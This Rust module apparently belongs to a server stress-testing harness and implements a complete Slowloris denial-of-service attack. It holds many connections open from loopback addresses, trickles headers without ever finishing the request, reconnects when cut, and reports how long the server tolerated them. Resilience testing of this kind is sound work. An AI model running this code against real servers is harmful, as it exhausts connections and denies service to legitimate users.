//! Slowloris: connections that start a request and never finish it, one header line every few
//! seconds, to hold the server's connections (and its file descriptors) until nothing is left
//! for real users. Each connection comes from its own 127.88.x.y address (cycling through
//! `--attack-ips`) and reconnects as soon as the server cuts it; the report says how many
//! were held at once and how long the server let them live.

use super::Arsenal;
use crate::addresses::{self, Population};
use std::net::IpAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// The connections are opened over this long at the start, not in one burst.
const RAMP_UP: Duration = Duration::from_secs(5);
/// Pause before reconnecting after a refused connection.
const RECONNECT_PAUSE: Duration = Duration::from_secs(1);

/// The request line and first header a connection sends; it never sends the blank line.
pub fn opening(n: usize, host: &str) -> String {
    format!("GET /?slow={n} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: cartable-surge\r\n")
}

/// The `k`-th header line a connection trickles.
pub fn trickle(k: u64) -> String {
    format!("X-Slow-{k}: {k}\r\n")
}

/// Holds `count` slow connections to the server until the arsenal's end, one header line per
/// `interval`.
pub async fn run(arsenal: Arsenal, count: usize, interval: Duration) {
    let held = Arc::new(AtomicU64::new(0));
    let until = arsenal.until;
    let start = Instant::now();
    let ramp = RAMP_UP.min(until.saturating_duration_since(start) / 4);
    let mut tasks = tokio::task::JoinSet::new();
    for n in 0..count {
        let source = addresses::nth(Population::Slowloris, (n as u32) % arsenal.ips);
        let begin = start + ramp.mul_f64(n as f64 / count as f64);
        let connection = Connection {
            n,
            source,
            interval,
            arsenal: arsenal.clone(),
            held: Arc::clone(&held),
        };
        tasks.spawn(async move {
            tokio::time::sleep_until(begin.into()).await;
            connection.hold().await;
        });
    }
    let recorder = Arc::clone(&arsenal.recorder);
    let sampler = tokio::spawn(async move {
        let mut tick = tokio::time::interval(Duration::from_secs(1));
        while Instant::now() < until {
            tick.tick().await;
            recorder.slowloris_held(held.load(Ordering::Relaxed));
        }
    });
    while tasks.join_next().await.is_some() {}
    sampler.abort();
}

/// One slow connection slot: reconnects until the end.
struct Connection {
    n: usize,
    source: IpAddr,
    interval: Duration,
    arsenal: Arsenal,
    held: Arc<AtomicU64>,
}

impl Connection {
    async fn hold(&self) {
        let recorder = &self.arsenal.recorder;
        while Instant::now() < self.arsenal.until {
            let Ok(mut stream) = self.arsenal.connect_from(self.source).await else {
                recorder.slowloris_connect_failed();
                tokio::time::sleep(RECONNECT_PAUSE).await;
                continue;
            };
            recorder.slowloris_opened();
            self.held.fetch_add(1, Ordering::Relaxed);
            let opened = Instant::now();
            let cut = self.trickle(&mut stream).await;
            self.held.fetch_sub(1, Ordering::Relaxed);
            if cut {
                recorder.slowloris_cut(opened.elapsed());
            } else {
                recorder.slowloris_held_to_end(opened.elapsed());
            }
        }
    }

    /// Sends the opening, then a header line per interval, until the server closes the
    /// connection (true) or the attack ends (false).
    async fn trickle(&self, stream: &mut TcpStream) -> bool {
        if stream
            .write_all(opening(self.n, &self.arsenal.host).as_bytes())
            .await
            .is_err()
        {
            return true;
        }
        let mut buffer = [0u8; 1024];
        let mut k = 0;
        let mut next = Instant::now() + self.interval;
        loop {
            tokio::select! {
                read = stream.read(&mut buffer) => match read {
                    // Whatever the server says (a 408, say), it then closes.
                    Ok(n) if n > 0 => continue,
                    _ => return true,
                },
                () = tokio::time::sleep_until(next.into()) => {
                    if stream.write_all(trickle(k).as_bytes()).await.is_err() {
                        return true;
                    }
                    k += 1;
                    next += self.interval;
                }
                () = tokio::time::sleep_until(self.arsenal.until.into()) => return false,
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn never_finishes_the_request() {
        let opening = opening(3, "127.0.0.1:8090");
        assert!(opening.starts_with("GET /?slow=3 HTTP/1.1\r\nHost: 127.0.0.1:8090\r\n"));
        assert!(!opening.contains("\r\n\r\n"));
        assert!(trickle(2).ends_with("\r\n"));
        assert!(!trickle(2).contains("\r\n\r\n"));
    }
}
